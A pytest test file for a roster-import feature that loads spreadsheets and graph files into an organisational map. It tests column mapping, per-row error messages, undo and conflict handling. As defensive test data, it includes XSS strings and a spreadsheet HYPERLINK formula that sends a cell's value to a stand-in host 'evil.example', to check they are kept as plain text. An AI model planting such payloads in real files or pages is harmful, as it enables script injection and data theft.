"""Importing rows into a map: good rows in, bad rows listed by row and column, one undo step, matching and conflicts."""

from __future__ import annotations

import csv
import importlib
import json
from pathlib import Path

import openpyxl
import pytest
from rdflib import Literal, URIRef
from rdflib.namespace import DCTERMS, ORG, RDF, RDFS
from support.paths import SAMPLES

from explorer.core.document import MapDocument
from explorer.core.errors import ExplorerError
from explorer.core.namespaces import RX
from explorer.core.projection import Projection
from explorer.core.schema import schema_of
from explorer.core.store import ANY_GRAPH
from explorer.io import merge
from explorer.io.csv_tables import read_csv
from explorer.io.kumu import read_kumu_json
from explorer.io.model import export_view
from explorer.io.xlsx import read_xlsx

REPO = Path(__file__).resolve().parents[2]
KEYSTONE = SAMPLES / "keystone-michigan.ttl"
HOSTILE = "<img src=x onerror=alert(1)>"

HEADER = ["Name", "Kind", "Department", "Role", "Line manager", "Workload", "Staff ID"]
ROWS = [
    ["Ana Silva", "Person", "Ward 7", "clinical", "", 0.4, "S1"],  # row 2: good, a new unit
    [
        "Ben Okafor",
        "person",
        "Ward 7",
        "clinical, managerial",
        "Ana Silva",
        "0.6",
        "S2",
    ],  # row 3: good, reports to row 2
    ["", "Person", "Ward 7", "", "", "", "S3"],  # row 4: empty name
    ["Cid", "Robot", "Ward 7", "", "", "", "S4"],  # row 5: unknown kind
    ["Dee", "Person", "Ward 7", "", "Nobody Atall", "", "S5"],  # row 6: reports to nobody (value left out)
    ["Eve", "Person", "Ward 7", "", "", "very high", "S6"],  # row 7: bad workload (value left out)
    ["Fay", "Person", "", "", "", 7, "S6"],  # row 8: duplicate identifier
    [HOSTILE, "Professional group", "", "", "", "", "S8"],  # row 9: markup, imported as text
]


def write_xlsx(path: Path, header=HEADER, rows=ROWS) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def write_csv(path: Path, header=HEADER, rows=ROWS) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.fixture
def doc():
    document = MapDocument.new(base_iri="https://example.org/map/")
    yield document
    document.close()


@pytest.fixture
def keystone():
    document = MapDocument.open(KEYSTONE, editing=False)
    yield document
    document.close()


def everything(document) -> set:
    return set(document.store.quads(graph=ANY_GRAPH))


def node_named(document, label, kind=None):
    found = [
        s
        for s, _, _, _ in document.store.quads(None, RDFS.label, Literal(label))
        if kind is None or document.store.contains((s, RDF.type, kind, None))
    ]
    assert len(found) == 1, (label, found)
    return found[0]


def import_source(document, source, **changes):
    mapping = merge.guess_mapping(source, schema_of(document))
    for key, value in changes.items():
        setattr(mapping, key, value)
    plan = merge.plan_import(document, source, mapping)
    merge.apply_plan(document, plan)
    return plan


@pytest.mark.parametrize(("writer", "reader"), [(write_xlsx, read_xlsx), (write_csv, read_csv)], ids=["xlsx", "csv"])
def test_good_rows_are_imported_and_bad_ones_listed_with_row_and_column(doc, tmp_path, writer, reader):
    source = reader(writer(tmp_path / f"roster.{reader.__name__[5:]}"))
    mapping = merge.guess_mapping(source, schema_of(doc))
    assert mapping.columns == {
        "name": "Name",
        "kind": "Kind",
        "unit": "Department",
        "role": "Role",
        "reports_to": "Line manager",
        "identifier": "Staff ID",
    }
    assert mapping.properties == {"Workload": RX.workload}
    plan = merge.plan_import(doc, source, mapping)
    problems = {(p.row, p.column, p.skipped) for p in plan.problems}
    assert problems == {
        (4, "Name", True),
        (5, "Kind", True),
        (6, "Line manager", False),
        (7, "Workload", False),
        (8, "Staff ID", True),
    }
    messages = "\n".join(map(str, plan.problems))
    assert "row 5, column “Kind”: “Robot” is not a kind of node" in messages
    assert (
        "row 6, column “Line manager”: “Nobody Atall” names nobody in the file or on the map (value left out)"
        in messages
    )
    assert "row 8, column “Staff ID”: the identifier “S6” is also in row 7" in messages
    assert plan.counts["new"] == 5 and plan.counts["skip"] == 3 and plan.counts["created"] == 1
    merge.apply_plan(doc, plan)

    ana, ben = node_named(doc, "Ana Silva", RX.Person), node_named(doc, "Ben Okafor", RX.Person)
    ward = node_named(doc, "Ward 7", RX.Unit)
    assert doc.store.contains((ben, ORG.reportsTo, ana, None))
    assert doc.store.contains((ana, ORG.memberOf, ward, None)) and doc.store.contains((ben, ORG.memberOf, ward, None))
    assert {o for _, _, o, _ in doc.store.quads(ben, RX.roleKind, None)} == {RX.clinicalRole, RX.managerialRole}
    assert [str(o) for _, _, o, _ in doc.store.quads(ben, RX.workload, None)] == ["0.6"]
    assert [str(o) for _, _, o, _ in doc.store.quads(ana, DCTERMS.identifier, None)] == ["S1"]
    eve = node_named(doc, "Eve", RX.Person)
    assert not list(doc.store.quads(eve, RX.workload, None))  # the bad value is left out, the row is not
    node_named(doc, HOSTILE, RX.ProfessionalGroup)  # markup stays text
    # Readable IRIs (explorer.core.iris): the map's base, the kind's folder, the label as a slug, no random tail.
    assert (str(ana), str(ben)) == (
        "https://example.org/map/person/ana-silva",
        "https://example.org/map/person/ben-okafor",
    )


def test_import_then_undo_gives_back_the_original_map(keystone, tmp_path):
    before = everything(keystone)
    depth = len(keystone.stack.commands)
    plan = import_source(keystone, read_xlsx(write_xlsx(tmp_path / "roster.xlsx")))
    assert plan.imported == 5
    assert everything(keystone) != before
    assert len(keystone.stack.commands) == depth + 1 and keystone.stack.undo_text == "Import roster.xlsx"
    keystone.undo()
    assert everything(keystone) == before
    keystone.redo()
    assert node_named(keystone, "Ben Okafor")


def test_rows_match_existing_nodes_by_label_any_case_and_same_kind(keystone, tmp_path):
    rows = [
        ["icu a", "Unit", "", "", "", "", ""],  # the map's "ICU A"
        ["bedside NURSE, icu a", "Role", "ICU A", "", "nurse lead, ICU A", "", ""],
        ["ICU A", "Routine", "", "", "", "", ""],
    ]  # same name, other kind: a new node
    before_nodes = len(Projection.build(keystone.store, schema_of(keystone)).nodes)
    plan = import_source(keystone, read_csv(write_csv(tmp_path / "r.csv", rows=rows)))
    assert [r.action for r in plan.rows] == ["unchanged", "unchanged", "new"]
    assert plan.rows[0].iri == URIRef("https://w3id.org/routine-explorer/sample/keystone-michigan/unit/icu-a")
    assert len(Projection.build(keystone.store, schema_of(keystone)).nodes) == before_nodes + 1


def test_conflicts_keep_replace_or_add(keystone, tmp_path):
    bedside = URIRef("https://w3id.org/routine-explorer/sample/keystone-michigan/role/bedside-nurse-a")
    unit_b = URIRef("https://w3id.org/routine-explorer/sample/keystone-michigan/unit/icu-b")
    rows = [["Bedside nurse, ICU A", "Role", "ICU B", "", "", 0.9, ""]]  # the map says ICU A and workload 0.7
    path = write_csv(tmp_path / "r.csv", rows=rows)

    def values(predicate):
        return {str(o) for _, _, o, _ in keystone.store.quads(bedside, predicate, None)}

    before = everything(keystone)
    plan = import_source(keystone, read_csv(path), on_conflict="keep")
    assert plan.counts["conflicts"] == 1 and [r.action for r in plan.rows] == ["unchanged"]
    assert everything(keystone) == before

    plan = import_source(keystone, read_csv(path), on_conflict="replace")
    assert [r.action for r in plan.rows] == ["update"]
    assert values(RX.workload) == {"0.9"} and values(ORG.memberOf) == {str(unit_b)}
    keystone.undo()
    assert everything(keystone) == before

    plan = import_source(keystone, read_csv(path), on_conflict="add")
    assert [r.action for r in plan.rows] == ["new"]
    twins = [s for s, _, _, _ in keystone.store.quads(None, RDFS.label, Literal("Bedside nurse, ICU A"))]
    assert len(twins) == 2 and values(RX.workload) == {"0.7"}


def test_values_the_node_lacks_are_added_without_a_conflict(keystone, tmp_path):
    rows = [["Physician lead, ICU A", "Role", "", "", "", 0.35, ""]]  # the map has no workload for this role
    plan = import_source(keystone, read_csv(write_csv(tmp_path / "r.csv", rows=rows)), on_conflict="keep")
    assert plan.counts["conflicts"] == 0 and [r.action for r in plan.rows] == ["update"]
    lead = node_named(keystone, "Physician lead, ICU A")
    assert [str(o) for _, _, o, _ in keystone.store.quads(lead, RX.workload, None)] == ["0.35"]


def test_identifiers_match_on_the_next_import_even_after_a_rename(doc, tmp_path):
    import_source(doc, read_csv(write_csv(tmp_path / "a.csv", rows=[["Ana", "Person", "", "", "", "", "S1"]])))
    ana = node_named(doc, "Ana", RX.Person)
    renamed = [["Ana Silva", "Person", "", "", "", "", "S1"]]
    plan = import_source(doc, read_csv(write_csv(tmp_path / "b.csv", rows=renamed)), on_conflict="replace")
    assert [r.action for r in plan.rows] == ["update"] and plan.rows[0].iri == ana
    assert node_named(doc, "Ana Silva", RX.Person) == ana


def test_an_iri_identifier_is_kept_as_the_node_iri(doc, tmp_path):
    iri = "https://example.org/staff/ana"
    plan = import_source(doc, read_csv(write_csv(tmp_path / "a.csv", rows=[["Ana", "Person", "", "", "", "", iri]])))
    assert plan.rows[0].iri == URIRef(iri) and doc.store.contains((URIRef(iri), RDF.type, RX.Person, None))
    plan = import_source(doc, read_csv(write_csv(tmp_path / "b.csv", rows=[["Ana", "Person", "", "", "", 0.5, iri]])))
    assert [r.action for r in plan.rows] == ["update"]


def test_hostile_cells_are_stored_as_text_or_refused_with_a_message(doc, tmp_path):
    huge = "x" * 200_000
    rows = [
        ['=HYPERLINK("http://evil.example/?"&A1,"click")', "Person", "", "", "", "", ""],
        ["<script>alert('x')</script>", "Person", "<b>Unit</b>", "", "", "", ""],
        [huge, "Person", "", "", "", "", ""],
        ["Zed", "Person", "", "", "", "1e999", ""],
        ["Yan", "Person", "", "", "", "=1+1", ""],
        ["Xi", "Person", "", "surgeon; clinical", "", "", ""],
    ]
    source = read_csv(write_csv(tmp_path / "hostile.csv", rows=rows))
    plan = import_source(doc, source)
    node_named(doc, '=HYPERLINK("http://evil.example/?"&A1,"click")', RX.Person)
    node_named(doc, "<script>alert('x')</script>", RX.Person)
    node_named(doc, "<b>Unit</b>", RX.Unit)
    messages = {(p.row, p.column): p.message for p in plan.problems}
    assert "200,000 characters long; the limit is 100,000" in messages[(4, "Name")]
    assert "must be a finite number" in messages[(5, "Workload")] or "between 0 and 1" in messages[(5, "Workload")]
    assert "must be a number" in messages[(6, "Workload")]
    assert "“surgeon” is not a role kind" in messages[(7, "Role")]
    xi = node_named(doc, "Xi", RX.Person)
    assert [o for _, _, o, _ in doc.store.quads(xi, RX.roleKind, None)] == [RX.clinicalRole]


def test_wrong_cell_types_from_a_workbook(doc, tmp_path):
    import datetime as dt

    rows = [[12345, "Person", "", "", "", dt.datetime(2024, 1, 1), ""], [True, "Person", "", "", "", 0.5, ""]]
    plan = import_source(doc, read_xlsx(write_xlsx(tmp_path / "types.xlsx", rows=rows)))
    node_named(doc, "12345", RX.Person)
    node_named(doc, "true", RX.Person)
    assert [(p.row, p.column) for p in plan.problems] == [(2, "Workload")]


def test_reports_to_must_be_an_agent_and_units_are_created_once(doc, tmp_path):
    rows = [
        ["Handover", "Routine", "", "", "", "", ""],
        ["Ann", "Person", "ICU", "", "Handover", "", ""],
        ["Bob", "Person", "icu", "", "", "", ""],
        ["Cat", "Routine", "ICU", "", "", "", ""],
    ]
    plan = import_source(doc, read_csv(write_csv(tmp_path / "r.csv", rows=rows)))
    messages = {(p.row, p.column): p.message for p in plan.problems}
    assert (
        messages[(3, "Line manager")]
        == "“Handover” is a routine; the ontology has no “reports to” from a person to a routine"
    )
    assert messages[(5, "Department")] == "the ontology has no “member of” from a routine to a unit"
    assert len([s for s, _, _, _ in doc.store.quads(None, RDF.type, RX.Unit)]) == 1


def test_without_a_kind_column_the_default_kind_is_used(doc, tmp_path):
    path = tmp_path / "people.csv"
    path.write_text("Full name,Team\nAna,ICU\nBen,ICU\n", encoding="utf-8")
    source = read_csv(path)
    mapping = merge.guess_mapping(source, schema_of(doc))
    assert mapping.default_kind == RX.Role  # a team column says these are people: roles, unless asked
    assert merge.guess_mapping(source, schema_of(doc), named_people=True).default_kind == RX.Person
    merge.apply_plan(doc, merge.plan_import(doc, source, mapping))
    node_named(doc, "Ana", RX.Role)
    mapping.default_kind = None
    plan = merge.plan_import(doc, source, mapping)
    assert plan.imported == 0 and all("no column gives the kind" in p.message for p in plan.problems)


def test_mapping_files_toml_and_json(doc, tmp_path):
    source = read_csv(
        write_csv(
            tmp_path / "r.csv",
            header=["Who", "What", "Group", "Load"],
            rows=[["Ana", "Nurse", "ICU", 0.2], ["Ben", "", "ICU", 0.3]],
        )
    )
    toml = tmp_path / "mapping.toml"
    toml.write_text(
        """
[columns]
name = "Who"
kind = "What"
profession = "Group"

[properties]
"Load" = "rx:workload"

[kinds]
"Nurse" = "Role"

[defaults]
kind = "person"
on_conflict = "replace"
""",
        encoding="utf-8",
    )
    schema = schema_of(doc)
    mapping = merge.load_mapping(toml, schema, source=source)
    assert mapping.columns == {"name": "Who", "kind": "What", "profession": "Group"}
    assert mapping.default_kind == RX.Person and mapping.on_conflict == "replace"
    merge.apply_plan(doc, merge.plan_import(doc, source, mapping))
    ana, group = node_named(doc, "Ana", RX.Role), node_named(doc, "ICU", RX.ProfessionalGroup)
    assert doc.store.contains((ana, RX.ofProfession, group, None))
    node_named(doc, "Ben", RX.Person)

    as_json = tmp_path / "mapping.json"
    as_json.write_text(json.dumps(mapping.to_dict()), encoding="utf-8")
    again = merge.load_mapping(as_json, schema, source=source)
    assert again == mapping

    for text, message in [
        ('[columns]\nname = "Nope"\n', "the column 'Nope' is not in r.csv"),
        ('[columns]\nboss = "Who"\n', "the targets are"),
        ('[properties]\n"Load" = "rx:noSuchThing"\n', "names no property"),
        ('[defaults]\nkind = "Dragon"\n', "is not a kind"),
        ('[defaults]\non_conflict = "merge"\n', "on_conflict must be one of keep, replace, add"),
        ("[columns\n", "not valid TOML"),
    ]:
        toml.write_text(text, encoding="utf-8")
        with pytest.raises(ExplorerError, match=message):
            merge.load_mapping(toml, schema, source=source)


def test_kumu_blueprint_elements_and_connections(doc, tmp_path):
    path = tmp_path / "kumu.json"
    path.write_text(
        json.dumps(
            {
                "elements": [
                    {"id": "e1", "label": "A", "type": "Person", "description": "This is A"},
                    {"id": "e2", "label": "A", "type": "Person"},
                    {"label": "ICU", "type": "Unit"},
                    {"label": "Letters", "type": "Letter"},
                ],
                "connections": [
                    {"from": "e1", "to": "e2", "type": "advises", "direction": "mutual"},
                    {"from": "e1", "to": "ICU", "type": "member of"},
                    {"from": "e2", "to": "ICU", "type": "likes"},
                    {"from": "ICU", "to": "e1", "type": "performs"},
                    {"from": "e1", "to": "Nobody", "type": "advises"},
                ],
            }
        ),
        encoding="utf-8",
    )
    plan = import_source(doc, read_kumu_json(path))
    problems = [(p.noun, p.row, p.column) for p in plan.problems]
    assert problems == [
        ("element", 4, "type"),
        ("connection", 4, "type"),
        ("connection", 5, "to"),
    ]
    assert "“Nobody” names no element of the file and no node of the map" in plan.problems[2].message
    assert "“Letter” is not a kind of node" in plan.problems[0].message
    assert "the ontology has no “performs” from a unit to a person" in plan.problems[1].message
    # "likes" is no relation of the ontology: kept as the general influence tie, named "likes", and said.
    (liked,) = [s for s, _, o, _ in doc.store.quads(None, RDFS.label, None) if str(o) == "likes"]
    assert doc.store.contains((liked, RDF.type, RX.InfluenceTie, None))
    assert any("imported as “Influence tie”, the general tie" in note and "“likes”: 1" in note for note in plan.notes)
    by_id = {str(o): s for s, _, o, _ in doc.store.quads(None, DCTERMS.identifier, None)}
    a1, a2 = by_id["e1"], by_id["e2"]
    icu = node_named(doc, "ICU", RX.Unit)
    assert doc.store.contains((a1, RX.advises, a2, None)) and doc.store.contains((a2, RX.advises, a1, None))
    assert doc.store.contains((a1, ORG.memberOf, icu, None))
    assert [str(o) for _, _, o, _ in doc.store.quads(a1, RDFS.comment, None)] == ["This is A"]


def test_generic_graph_uses_the_chosen_kind_and_relation(doc, tmp_path):
    from explorer.io.graphml import read_graphml

    path = tmp_path / "g.graphml"
    path.write_text(
        """<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
      <key id="l" for="node" attr.name="label" attr.type="string"/>
      <graph edgedefault="directed">
        <node id="a"><data key="l">Ann</data></node><node id="b"><data key="l">Bo</data></node>
        <node id="c"><data key="l">Cy</data></node>
        <edge source="a" target="b"/><edge source="b" target="c"/><edge source="c" target="zz"/>
      </graph></graphml>""",
        encoding="utf-8",
    )
    source = read_graphml(path)
    schema = schema_of(doc)
    mapping = merge.guess_mapping(source, schema)
    plan = merge.plan_import(doc, source, mapping)
    assert plan.imported == 0 and "no column gives the kind" in plan.problems[0].message
    mapping.default_kind = RX.Person
    plan = merge.plan_import(doc, source, mapping)
    # Edges that name no relation get the general influence tie between people, and the plan says so.
    assert plan.imported == 4 and not [p for p in plan.problems if p.noun == "edge"]
    assert sum(1 for q in plan.added if q[1] == RDF.type and q[2] == RX.InfluenceTie) == 3
    assert any("3 edges imported as “Influence tie”, the general tie" in note for note in plan.notes)
    mapping.default_relation = RX.influences
    plan = merge.plan_import(doc, source, mapping)
    assert plan.problems == [] and plan.imported == 4  # "zz" is named by an edge only: a node without a label
    merge.apply_plan(doc, plan)
    node_named(doc, "zz", RX.Person)
    ann, bo = node_named(doc, "Ann", RX.Person), node_named(doc, "Bo", RX.Person)
    assert doc.store.contains((ann, RX.influences, bo, None))
    mapping.default_relation = ORG.hasUnit  # not between two people
    plan = merge.plan_import(doc, source, mapping)
    assert any("the ontology has no “has unit” from a person to a person" in p.message for p in plan.problems)


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_export_then_import_round_trips_nodes_ties_and_values(keystone, tmp_path, fmt):
    graph_format = importlib.import_module(f"explorer.io.{fmt}")  # one module per format, with its read_ and write_

    out = tmp_path / f"keystone.{fmt}"
    getattr(graph_format, f"write_{fmt}")(keystone, out)
    source = getattr(graph_format, f"read_{fmt}")(out)
    schema = schema_of(keystone)
    fresh = MapDocument.new()
    try:
        plan = merge.plan_import(fresh, source, merge.guess_mapping(source, schema))
        merge.apply_plan(fresh, plan)
        assert plan.problems == []
        old, new = Projection.build(keystone.store, schema), Projection.build(fresh.store, schema)
        assert {(i, v.kind, v.label, v.level) for i, v in old.nodes.items()} == {
            (i, v.kind, v.label, v.level) for i, v in new.nodes.items()
        }
        assert {(t.source, t.relation, t.target, t.tie) for t in old.ties.values()} == {
            (t.source, t.relation, t.target, t.tie) for t in new.ties.values()
        }
        # Placed where the export placed them: the canvas's y (downwards), not the one flipped for Gephi.
        placed = {n.id: (n.x, n.y) for n in export_view(keystone).nodes}
        for iri, (x, y) in placed.items():
            got = [float(next(iter(fresh.store.quads(URIRef(iri), p, None)))[2]) for p in (RX.canvasX, RX.canvasY)]
            assert got == pytest.approx([x, y]), iri
        bedside = URIRef("https://w3id.org/routine-explorer/sample/keystone-michigan/role/bedside-nurse-a")
        for predicate in (RX.workload, RX.roleKind, RX.influence):
            assert {o for _, _, o, _ in keystone.store.quads(bedside, predicate, None)} == {
                o for _, _, o, _ in fresh.store.quads(bedside, predicate, None)
            }
        # Imported again into the map it came from, it changes nothing but the positions the export computed.
        again = merge.plan_import(keystone, source, merge.guess_mapping(source, schema))
        assert again.counts["new"] == 0 and again.counts["conflicts"] == 0 and again.removed == []
        assert {q[1] for q in merge.plan_command(keystone, again).added} <= {RX.canvasX, RX.canvasY}
    finally:
        fresh.close()


def test_on_conflict_must_be_known(doc, tmp_path):
    source = read_csv(write_csv(tmp_path / "r.csv", rows=ROWS[:1]))
    mapping = merge.guess_mapping(source, schema_of(doc))
    mapping.on_conflict = "merge"
    with pytest.raises(ExplorerError, match="on_conflict must be one of"):
        merge.plan_import(doc, source, mapping)
    mapping = merge.guess_mapping(source, schema_of(doc))
    mapping.columns.pop("name")
    with pytest.raises(ExplorerError, match="Choose the column that gives each node's name"):
        merge.plan_import(doc, source, mapping)


def test_import_file_reads_plans_and_applies_in_one_call(doc, tmp_path):
    path = write_xlsx(tmp_path / "roster.xlsx")
    plan = merge.import_file(doc, path, on_conflict="replace")
    assert plan.imported == 5 and doc.stack.undo_text == "Import roster.xlsx"
    mapping = tmp_path / "m.json"
    mapping.write_text(json.dumps({"columns": {"name": "Name"}, "defaults": {"kind": "Routine"}}), encoding="utf-8")
    plan = merge.import_file(doc, path, mapping=mapping)
    assert plan.counts["new"] == 7 and all(r.kind == "Routine" for r in plan.rows if r.action == "new")


def test_the_readme_mapping_example_loads(doc, tmp_path):
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Importing a roster", 1)[1]
    example = section.split("```toml\n", 1)[1].split("```", 1)[0]
    path = tmp_path / "mapping.toml"
    path.write_text(example, encoding="utf-8")
    source = read_csv(
        write_csv(
            tmp_path / "r.csv",
            header=["Full name", "Ward", "Line manager", "Load"],
            rows=[["Ana", "ICU", "", 0.5], ["Ben", "ICU", "Ana", 0.2]],
        )
    )
    mapping = merge.load_mapping(path, schema_of(doc), source=source)
    plan = merge.plan_import(doc, source, mapping)
    assert plan.problems == [] and plan.counts["new"] == 2 and plan.counts["created"] == 1
